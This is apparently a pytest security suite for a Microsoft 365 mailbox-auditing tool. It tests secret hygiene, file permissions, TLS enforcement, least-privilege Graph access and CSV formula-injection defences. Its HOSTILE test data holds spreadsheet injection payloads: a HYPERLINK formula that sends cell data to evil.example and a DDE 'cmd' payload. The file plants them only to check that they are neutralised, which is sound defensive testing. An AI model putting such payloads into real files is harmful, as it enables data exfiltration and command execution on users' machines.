"""Security: no secret in any file, owner-only files, formula-safe CSVs, TLS always verified,
least privilege (never Mail.Read, never a body)."""

from __future__ import annotations

import copy
import csv
import io
import re
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import certifi
import orjson
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from site_support import Site, make_site, read_csv, run_cli_inprocess

from m365guard.emulator import synth
from m365guard.emulator.route_table import GRAPH_ROUTES
from m365guard.emulator.server import RunningEmulator, start_in_thread
from m365guard.emulator.state import Tenant
from m365guard.errors import ExitCode
from m365guard.graph.client import open_session
from m365guard.graph.mailboxes import MailboxStreams
from m365guard.graph.permissions import REQUIRED_PERMISSIONS, TOO_BROAD
from m365guard.graph.sink import RowSink
from m365guard.pipeline import run_nightly
from m365guard.reports.csvfile import FORMULA_PREFIXES

CERT_PASSWORD = "Kn0wn-Cert-Passw0rd!x7"
README = Path(__file__).parents[2] / "README.md"


def encrypted_pem(source: Path, target: Path, password: str) -> Path:
    """The emulator's client certificate with its key encrypted under password."""
    data = source.read_bytes()
    key = serialization.load_pem_private_key(data, None)
    cert = x509.load_pem_x509_certificate(data)
    target.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                          serialization.BestAvailableEncryption(password.encode()))
        + cert.public_bytes(serialization.Encoding.PEM))
    return target


def every_file(*folders: Path) -> list[Path]:
    return [p for folder in folders for p in folder.rglob("*") if p.is_file()]


def test_no_secret_in_any_output_and_files_owner_only(tmp_path: Path, school: synth.SyntheticSchool,
                                             emulator: RunningEmulator) -> None:
    settings = emulator.settings
    secret_site = make_site(tmp_path / "secret", school, settings, auth="secret")
    cert_site = make_site(tmp_path / "cert", school, settings)
    pem = encrypted_pem(Path(settings.certificate_path), tmp_path / "cert" / "m365guard.pem",
                        CERT_PASSWORD)
    cert_site.env.update(M365GUARD_CERT_PATH=str(pem), M365GUARD_CERT_PASSWORD=CERT_PASSWORD)
    key_line = Path(settings.certificate_path).read_text().splitlines()[1].encode()
    secrets = [settings.client_secret.encode(), CERT_PASSWORD.encode(), key_line]
    outputs = []
    for site in (secret_site, cert_site):
        done = site.nightly()
        assert done.returncode == ExitCode.NEW_HIGH_FINDINGS, done.stderr[-1500:]
        outputs.append((done.stdout + done.stderr).encode())
        outputs.extend(p.read_bytes() for p in every_file(site.out, site.state_dir))
        assert (site.out / "m365guard.log").stat().st_size > 0
    wrong = cert_site.nightly(env={**cert_site.env, "M365GUARD_CERT_PASSWORD": "Wr0ng-pass!"})
    assert wrong.returncode == ExitCode.CERTIFICATE_ERROR
    outputs.append((wrong.stdout + wrong.stderr).encode())
    for blob in outputs:
        for secret in secrets:
            assert secret not in blob
    assert b"Wr0ng-pass!" not in outputs[-1]
    assert_owner_only(cert_site)


def assert_owner_only(site: Site) -> None:
    """Every state and output file 0600, their folders 0700."""
    files = every_file(site.out, site.state_dir)
    assert any(p.name.endswith(".csv") for p in files) and any(p.suffix == ".db" for p in files)
    assert any(p.name == "m365guard.log" for p in files)
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (site.out, site.state_dir):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder




# -- formula injection --------------------------------------------------------------------------

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+2",
           "@SUM(1+1)", "\tTAB", "=1+1")


def hostile_document(doc: dict[str, Any]) -> dict[str, Any]:
    """Every subject, display name and rule name becomes a formula; some addresses too."""
    doc = copy.deepcopy(doc)
    pick = iter(HOSTILE * 100_000)
    for user in doc["users"]:
        user["displayName"] = next(pick)
    for mailbox in doc["mailboxes"].values():
        for folder in ("sentitems", "inbox"):
            for message in mailbox.get(folder, []):
                message["subject"] = next(pick)
                for key in ("toRecipients", "ccRecipients"):
                    for recipient in message.get(key) or []:
                        address = recipient["emailAddress"]
                        address["name"] = next(pick)
                        local, _, domain = address["address"].partition("@")
                        if domain == "gmail.com":
                            address["address"] = "-" + local + "@" + domain
        for rule in mailbox.get("messageRules", []):
            rule["displayName"] = next(pick)
    return doc


def test_formula_injection_is_neutralised_in_every_csv_cell(
        tmp_path: Path, school: synth.SyntheticSchool, emu_workdir: Path) -> None:
    doc = hostile_document(school.tenant)
    assert orjson.dumps(doc) != orjson.dumps(school.tenant)
    with start_in_thread(Tenant.from_document(doc), workdir=emu_workdir) as hostile:
        site = make_site(tmp_path, school, hostile.settings)
        outcome = run_nightly(site.policy(), site.conn(), site.out)
    cells = [cell for path in site.out.glob("*.csv")
             for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig")))
             for cell in row]
    assert len(outcome.update.new) > 20
    assert any("HYPERLINK" in cell for cell in cells), "the planted formulas never reached a CSV"
    assert any(cell.startswith("'=") or "'=" in cell for cell in cells)
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert not dangerous, dangerous[:5]


# -- TLS ----------------------------------------------------------------------------------------

@pytest.fixture
def tls_site(site: Site, emulator: RunningEmulator) -> Iterator[Site]:
    ca = emulator.settings.ca_bundle
    site.env.update(
        M365GUARD_CA_BUNDLE=certifi.where(),  # a real CA bundle, without the emulator's CA
        REQUESTS_CA_BUNDLE=ca, CURL_CA_BUNDLE=ca, SSL_CERT_FILE=ca,
        SSL_CERT_DIR=str(Path(ca).parent),
        PYTHONHTTPSVERIFY="0", HTTPX_SSL_VERIFY="0", M365GUARD_VERIFY_TLS="false",
        M365GUARD_INSECURE="1")
    yield site


@pytest.mark.parametrize("auth", ["cert", "secret"])
def test_a_wrong_ca_bundle_fails_whatever_the_environment_says(tls_site: Site, auth: str,
                                                                emulator: RunningEmulator) -> None:
    if auth == "secret":
        tls_site.env.pop("M365GUARD_CERT_PATH")
        tls_site.env["M365GUARD_CLIENT_SECRET"] = emulator.settings.client_secret
    done = tls_site.nightly()
    assert done.returncode == ExitCode.TLS_ERROR, done.stderr[-1500:]
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert lines[-1].startswith("error: TLS verification failed"), lines
    assert "Traceback" not in done.stderr
    assert not list(tls_site.out.glob("findings-*.csv"))


@pytest.mark.parametrize("setting", [
    "verify = false", "verify_tls = false", "insecure = true",
    'graph_endpoint = "http://127.0.0.1:1"', 'authority_host = "http://127.0.0.1:1"'])
def test_no_setting_switches_tls_off(site: Site, setting: str, capsys: pytest.CaptureFixture[str],
                                     monkeypatch: pytest.MonkeyPatch) -> None:
    site.config.write_text(site.config.read_text() + f"\n[tenant]\n{setting}\n")
    env = {k: v for k, v in site.env.items()
           if k not in ("M365GUARD_GRAPH_ENDPOINT", "M365GUARD_AUTHORITY_HOST")}
    done = run_cli_inprocess(["nightly", "--config", str(site.config)], env, capsys, monkeypatch)
    assert done.code == ExitCode.CONFIG_ERROR, done.stderr
    assert done.stderr.startswith("error:") and done.stderr.count("\n") == 1, done.stderr


# -- least privilege ----------------------------------------------------------------------------

def readme_permissions() -> set[str]:
    text = README.read_text()
    section = text.split("grant (application permissions, admin consent) exactly:")[1]
    section = section.split("Never `Mail.Read`")[0]
    return set(re.findall(r"`([A-Za-z-]+(?:\.[A-Za-z]+)+)`", section))


def test_least_privilege_and_never_a_body(tmp_path: Path, school: synth.SyntheticSchool,
                                          emulator: RunningEmulator) -> None:
    readme = readme_permissions()
    assert len(readme) == 8 and not readme & TOO_BROAD
    assert set(REQUIRED_PERMISSIONS.values()) == readme
    site = make_site(tmp_path, school, emulator.settings)
    before = emulator.stats.per_route.copy()
    outcome = run_nightly(site.policy(), site.conn(), site.out)
    hit = emulator.stats.per_route - before
    assert outcome.run.outcome == "complete"
    assert set(outcome.run.granted_permissions) == readme  # the token carries exactly these
    routes = {f"{route.method} {route.template}": route for route in GRAPH_ROUTES}
    used = [routes[name] for name in hit if name in routes]
    assert any("messages/delta" in route.template for route in used)
    for route in used:  # every endpoint called is served by a README permission
        assert set(route.roles) & readme, route.template
        assert not route.template.endswith(("/$value", "/attachments"))
    # the exact first URL of every mail stream, built by the collector with the real SDK
    with open_session(site.conn()) as session:
        streams = MailboxStreams(session, RowSink(), delta_links={}, page_size=250,
                                 progress=None)
        urls = [streams.mail_stream("x@y", "u1", folder, outcome.run.started_at).url
                for folder in ("sentitems", "inbox")]
    for url in urls:
        select = parse_qs(urlsplit(url).query).get("$select", [""])[0].lower().split(",")
        assert "subject" in select and "torecipients" in select, url
        assert not {"body", "uniquebody", "bodypreview"} & set(select), url
    rows = read_csv(outcome.paths.findings_csv)
    assert rows
